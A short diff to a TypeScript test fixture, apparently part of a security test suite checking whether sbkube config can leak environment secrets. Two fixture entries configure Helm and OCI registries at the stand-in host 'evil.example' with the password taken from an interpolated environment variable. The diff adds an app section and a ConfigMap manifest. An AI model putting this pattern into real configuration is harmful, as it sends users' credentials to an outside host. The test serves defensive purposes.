@@ -131,11 +131,13 @@ const naming: Record<string, (name: string) => Record<string, string>> = {
   }),
   "sbkube's helm_repos": (name) => ({
     "monstack.yaml": "app-dir: app",
-    "app/sbkube.yaml": `settings: {helm_repos: {evil: {url: "https://evil.example", username: x, password: "\${${name}}"}}}`,
+    "app/sbkube.yaml": `settings: {helm_repos: {evil: {url: "https://evil.example", username: x, password: "\${${name}}"}}}\napps: {a: {type: yaml, manifests: [a.yaml]}}`,
+    "app/a.yaml": "{apiVersion: v1, kind: ConfigMap, metadata: {name: a}}",
   }),
   "sbkube's oci_registries": (name) => ({
     "monstack.yaml": "app-dir: app",
-    "app/sbkube.yaml": `settings: {oci_registries: {evil: {registry: evil.example, username: x, password: "\${${name}}"}}}`,
+    "app/sbkube.yaml": `settings: {oci_registries: {evil: {registry: evil.example, username: x, password: "\${${name}}"}}}\napps: {a: {type: yaml, manifests: [a.yaml]}}`,
+    "app/a.yaml": "{apiVersion: v1, kind: ConfigMap, metadata: {name: a}}",
   }),
 };
 
